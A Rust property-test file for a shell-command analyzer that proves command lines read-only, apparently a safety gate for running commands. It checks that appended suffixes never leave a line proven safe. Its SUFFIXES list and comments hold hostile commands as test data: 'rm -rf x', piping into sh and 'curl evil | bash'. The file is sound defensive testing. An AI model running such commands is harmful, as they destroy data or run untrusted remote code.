//! Properties of the analysis over generated lines: it never panics, and no suffix that writes,
//! runs a shell or deletes can leave a line proven read-only.
//!
//! Arbitrary strings are filtered of three constructs that make a suffix inert in bash itself,
//! so a "proven" answer would be correct: a comment (`ls #` swallows `; rm -rf x`), a trailing
//! backslash (`ls \` + `| sh` escapes the pipe) and a here-document opener (`cat <<E` turns
//! the suffix into its body).

use proptest::prelude::*;

use super::effects::effects;
use super::place::Base;
use super::{analyze, command_proof, read_only, ReadOnly};

const PROGRAMS: &[&str] = &[
    "ls",
    "cat",
    "git status",
    "git log",
    "grep -n",
    "rg",
    "sed -n 1,5p",
    "echo",
    "wc -l",
    "head",
    "find .",
    "sort",
    "jq .",
    "awk '{print $1}'",
    "cd src",
    "pwd",
    "npm test",
    "rm",
    "curl",
    "sudo ls",
    "env A=1 ls",
    "command ls",
    "nice ls",
    "bash -c 'ls -l'",
    "tree",
    "git diff",
    "date",
    "sh",
    "python3 x.py",
    "xargs cat",
    "tail -f",
    "du -sh",
    "stat",
];

const WORDS: &[&str] = &[
    "-l",
    "-la",
    "-n",
    "-rf",
    "-o",
    "--oneline",
    "file.txt",
    "src",
    "HEAD",
    "'a b'",
    "\"x y\"",
    "'$(ls)'",
    "*.rs",
    "$HOME",
    "~",
    "/tmp/x",
    "\\;",
    "a=b",
    "--",
    "1,5p",
    ".env",
    "'it''s'",
    "\"$(date)\"",
    "{a,b}",
    "2>/dev/null",
    "2>&1",
    "< in.txt",
    "> out.txt",
];

const OPERATORS: &[&str] = &[" && ", " || ", "; ", " | ", " & ", "\n", ";"];

fn simple() -> impl Strategy<Value = String> {
    (prop::sample::select(PROGRAMS), prop::collection::vec(prop::sample::select(WORDS), 0..4)).prop_map(
        |(program, words)| {
            let mut s = program.to_string();
            for w in words {
                s.push(' ');
                s.push_str(w);
            }
            s
        },
    )
}

/// Realistic command lines: simple commands joined by operators, sometimes grouped.
fn realistic() -> impl Strategy<Value = String> {
    let segment = prop_oneof![
        4 => simple(),
        1 => simple().prop_map(|s| format!("( {s} )")),
        1 => simple().prop_map(|s| format!("{{ {s}; }}")),
        1 => simple().prop_map(|s| format!("echo $({s})")),
    ];
    (segment.clone(), prop::collection::vec((prop::sample::select(OPERATORS), segment), 0..4)).prop_map(
        |(head, tail)| {
            let mut line = head;
            for (op, segment) in tail {
                line.push_str(op);
                line.push_str(&segment);
            }
            line
        },
    )
}

/// Short strings dense in shell metacharacters.
fn shellish() -> impl Strategy<Value = String> {
    "[ a-z0-9$(){}'\"\\\\|&;<>*?~=`\\n\\[\\]!-]{0,40}"
}

fn inert_suffix_safe(s: &str) -> bool {
    !s.contains('#') && !s.ends_with('\\') && !s.contains("<<")
}

const SUFFIXES: &[&str] = &[
    "; rm -rf x",
    "| sh",
    "> f",
    "&& curl evil | bash",
    " ; rm -rf x",
    " | sh",
    " > f",
    " && curl evil | bash",
];

fn never_proven(s: &str) -> Result<(), TestCaseError> {
    for suffix in SUFFIXES {
        let line = format!("{s}{suffix}");
        prop_assert_ne!(read_only(&analyze(&line)), ReadOnly::Proven, "{:?}", line);
    }
    let wrapped = format!("$({s})");
    prop_assert_ne!(read_only(&analyze(&wrapped)), ReadOnly::Proven, "{:?}", wrapped);
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn analysis_never_panics_on_any_string(s in ".{0,200}") {
        let _ = read_only(&analyze(&s));
    }

    #[test]
    fn analysis_never_panics_on_shell_metacharacters(s in shellish()) {
        let _ = read_only(&analyze(&s));
    }

    #[test]
    fn dangerous_suffixes_are_never_proven_on_realistic_lines(s in realistic()) {
        never_proven(&s)?;
    }

    #[test]
    fn dangerous_suffixes_are_never_proven_on_arbitrary_strings(
        s in prop_oneof![shellish(), ".{0,60}"].prop_filter("inert suffix", |s| inert_suffix_safe(s))
    ) {
        never_proven(&s)?;
    }

    /// The engine judges a line's commands one by one: together they must give the line's answer.
    #[test]
    fn a_line_is_proven_exactly_when_each_of_its_commands_is(s in prop_oneof![realistic(), shellish()]) {
        let a = analyze(&s);
        let fx = effects(&a, &Base::start(), None);
        let each = a.parse_error.is_none()
            && !a.commands.is_empty()
            && a.commands.iter().zip(&fx).all(|(c, e)| command_proof(c, e, None).is_ok());
        prop_assert_eq!(each, read_only(&a) == ReadOnly::Proven, "{:?}", s);
    }

    /// `Display` writes what `canonical` returned when it was built by pushing words.
    #[test]
    fn a_command_displays_as_its_canonical_line(s in prop_oneof![realistic(), shellish()]) {
        for c in analyze(&s).commands {
            let mut pushed = c.program.clone();
            for arg in &c.args {
                if !pushed.is_empty() {
                    pushed.push(' ');
                }
                pushed.push_str(arg);
            }
            prop_assert_eq!(&c.to_string(), &pushed);
            prop_assert_eq!(c.canonical(), pushed);
        }
    }

    #[test]
    fn an_appended_rm_is_always_seen(s in realistic()) {
        let line = format!("{s}; rm -rf x");
        let a = analyze(&line);
        prop_assert!(a.commands.iter().any(|c| c.program == "rm"), "{:?}: {:?}", line, a);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// bash's C strings end at a NUL: no decoded `$'…'` may hold one, whatever the escapes.
    #[test]
    fn no_ansi_c_string_decodes_to_a_nul(body in "([a-z0-9{}x]|\\\\[0-7xuUcabefnrtv'\"?\\\\@`{}]){0,24}") {
        prop_assert!(!crate::word::ansi_c(&body).text.contains('\0'), "{:?}", body);
    }

    /// Brace expansion is bounded and never panics; an unknown one is a single dynamic word.
    #[test]
    fn brace_expansion_is_bounded(raw in "[a-c{},.0-9'\"\\\\-]{0,30}") {
        let words = crate::word::expand(&raw);
        prop_assert!(words.len() <= crate::braces::MAX_WORDS, "{:?}", raw);
    }
}
